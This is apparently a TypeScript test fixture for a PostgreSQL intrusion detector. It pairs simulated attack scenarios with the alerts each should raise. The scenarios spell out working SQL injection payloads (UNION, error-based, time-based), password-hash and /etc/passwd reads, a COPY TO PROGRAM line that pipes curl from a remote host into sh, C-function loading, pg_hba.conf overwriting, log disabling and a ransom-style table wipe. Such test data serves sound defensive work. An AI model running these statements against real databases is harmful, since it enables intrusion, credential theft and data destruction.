import { ALICE, at, BACKUP, BILLING, BOB, DAYS, dump, EXPORTER, OFFICE, SHOP, TABLES, TRIED } from './habits.ts';
import type { Server } from './server.ts';

/** The third day of the last week, and where intruders come from: a carrier of Brazil. */
const D = TRIED + 2;
const ABROAD = '191.176.4.9';

/** What must be told of what statements do. */
export const HARMFUL_STATEMENTS: Readonly<Record<string, { told: string; happen: (server: Server) => void }>> = {
  'a tool injects by UNION': {
    told: 'PotentialSqlInjection',
    happen: (server) => {
      for (let n = 1; n < 12; n++)
        server.visit(
          at(D, 10, n),
          SHOP[0]!,
          n < 6
            ? {
                errors: [
                  {
                    sql: `SELECT * FROM customers WHERE email = 'x' UNION SELECT ${Array(n).fill('NULL').join(',')}-- ' LIMIT 1`,
                    state: '42601',
                    message: 'each UNION query must have the same number of columns',
                  },
                ],
              }
            : {
                statements: [
                  `SELECT * FROM customers WHERE email = 'x' UNION SELECT ${n},usename,passwd,NULL FROM pg_shadow-- ' LIMIT 1`,
                ],
              },
        );
    },
  },
  'a tool injects by error messages': {
    told: 'PotentialSqlInjection',
    happen: (server) => {
      for (let n = 0; n < 20; n++)
        server.visit(at(D, 10, n), SHOP[1]!, {
          errors: [
            {
              sql: `SELECT id, name, price FROM products WHERE id = 17 AND 1=CAST((SELECT version()||${n}) AS int)`,
              state: '22P02',
              message: 'invalid input syntax for type integer: "x"',
            },
          ],
        });
    },
  },
  'a tool injects by waiting': {
    told: 'PotentialSqlInjection',
    happen: (server) => {
      for (let n = 0; n < 20; n++)
        server.visit(at(D, 10, n), SHOP[1]!, {
          statements: [
            `SELECT id, name, price FROM products WHERE id = 17; SELECT CASE WHEN (ascii(substr(current_user,${n},1))>64) THEN pg_sleep(5) ELSE pg_sleep(0) END--`,
          ],
        });
    },
  },
  'two requests are injected by hand, hours apart': {
    told: 'PotentialSqlInjection',
    happen: (server) => {
      server.visit(at(D, 10), SHOP[0]!, {
        statements: ["SELECT * FROM customers WHERE email = '' OR 1=1 -- ' LIMIT 1"],
      });
      server.visit(at(D, 13), SHOP[1]!, {
        statements: [
          "SELECT * FROM customers WHERE email = '' UNION SELECT 1, table_name, NULL FROM information_schema.tables -- ' LIMIT 1",
        ],
      });
    },
  },
  'the application runs a program on the server': {
    told: 'DangerousStatement',
    happen: (server) => {
      server.visit(at(D, 10), SHOP[0]!, {
        statements: ["COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.9/x | sh'"],
      });
    },
  },
  'an analyst makes a superuser': {
    told: 'DangerousStatement',
    happen: (server) => {
      server.visit(at(D, 10), ALICE, { statements: ["CREATE ROLE helper SUPERUSER LOGIN PASSWORD 'x'"] });
    },
  },
  'an insider reads every table late in the evening': {
    told: 'DataExfiltrationAnomaly',
    happen: (server) => {
      server.visit(at(D, 21), BOB, {
        statements: TABLES.map((t) => `SELECT * FROM ${t}`).concat([
          'SELECT * FROM salaries',
          'SELECT * FROM contracts',
        ]),
      });
    },
  },
  "psql uses the application's role, from its own network": {
    told: 'HarmfulApplication',
    happen: (server) => {
      server.visit(
        at(D, 11),
        { user: 'shop', address: '10.20.3.99', application: 'psql' },
        {
          statements: [
            'SELECT current_user',
            'SELECT * FROM pg_catalog.pg_tables',
            'SELECT * FROM customers',
            'SELECT * FROM payments',
            'SELECT * FROM addresses',
          ],
        },
      );
    },
  },
  "a script without a name uses the application's role, from its own network": {
    told: 'HarmfulApplication',
    happen: (server) => {
      server.visit(
        at(D, 11),
        { user: 'shop', address: '10.20.3.99', application: '' },
        {
          statements: [
            'SELECT version()',
            'SELECT * FROM customers',
            'SELECT * FROM payments',
            'SELECT * FROM addresses',
          ],
        },
      );
    },
  },
  'the role of monitoring reads tables of the shop': {
    told: 'DataExfiltrationAnomaly',
    happen: (server) => {
      server.visit(
        at(D, 11),
        { ...EXPORTER, database: 'shop' },
        { statements: ['SELECT * FROM customers', 'SELECT * FROM payments', 'SELECT * FROM addresses'] },
      );
    },
  },
  'the data are taken for ransom': {
    told: 'DangerousStatement',
    happen: (server) => {
      server.visit(
        at(D, 4),
        { user: 'postgres', address: ABROAD, application: '' },
        {
          statements: [
            ...TABLES.map((t) => `DROP TABLE ${t}`),
            'CREATE TABLE warning (id int, note text)',
            "INSERT INTO warning VALUES (1, 'All your data is backed up. You must pay 0.01 BTC to recover it')",
          ],
        },
      );
    },
  },
  'logging is switched off': {
    told: 'DangerousStatement',
    happen: (server) => {
      server.visit(at(D, 10), ALICE, {
        statements: [
          "ALTER SYSTEM SET log_statement = 'none'",
          'ALTER SYSTEM SET log_connections = off',
          'SELECT pg_reload_conf()',
        ],
      });
    },
  },
  'password hashes are read': {
    told: 'DangerousStatement',
    happen: (server) => {
      server.visit(at(D, 10), ALICE, { statements: ['SELECT usename, passwd FROM pg_shadow'] });
    },
  },
  'a role unused for weeks is woken from abroad': {
    told: 'PrincipalAnomaly',
    happen: (server) => {
      for (let d = 0; d < 4; d++)
        server.visit(
          at(d, 9),
          { user: 'contractor', address: OFFICE, application: 'psql' },
          { statements: ['SELECT 1'] },
        );
      server.visit(
        at(D, 10),
        { user: 'contractor', address: ABROAD, application: 'psql' },
        { statements: ['SELECT 1'] },
      );
    },
  },
  'a role that an intruder made logs in from abroad': {
    told: 'PrincipalAnomaly',
    happen: (server) => {
      server.visit(at(D, 10), { user: 'svc_sync', address: ABROAD, application: 'psql' }, { statements: ['SELECT 1'] });
    },
  },
  'the role of the backup copies everything from abroad': {
    told: 'GeoAnomaly',
    happen: (server) => {
      server.visit(at(D, 3), { ...BACKUP, address: ABROAD }, { statements: dump(TABLES) });
    },
  },
  'an insider takes two tables each evening': {
    told: 'DataExfiltrationAnomaly',
    happen: (server) => {
      for (let d = TRIED; d < DAYS - 1; d++)
        server.visit(at(d, 18), BOB, { statements: [`COPY secret_${d}a TO STDOUT`, `COPY secret_${d}b TO STDOUT`] });
    },
  },
  'a program reads a file of the server': {
    told: 'DangerousStatement',
    happen: (server) => {
      server.visit(at(D, 10), BILLING, { statements: ["SELECT pg_read_file('/etc/passwd')"] });
    },
  },
  'code is brought in through C': {
    told: 'DangerousStatement',
    happen: (server) => {
      server.visit(at(D, 10), ALICE, {
        statements: ["CREATE OR REPLACE FUNCTION exec(text) RETURNS int AS '/tmp/x.so', 'exec' LANGUAGE C"],
      });
    },
  },
  'the application calls itself sqlmap': {
    told: 'HarmfulApplication',
    happen: (server) => {
      server.visit(at(D, 10), { ...SHOP[0]!, application: 'sqlmap' }, { statements: ['SELECT 1'] });
    },
  },
  'pg_hba.conf is written over': {
    told: 'DangerousStatement',
    happen: (server) => {
      server.visit(at(D, 10), ALICE, {
        statements: [
          'CREATE TABLE hba (l text)',
          "COPY hba FROM '/etc/pg_hba.conf'",
          "COPY hba TO '/etc/postgresql/15/main/pg_hba.conf'",
        ],
      });
    },
  },
};
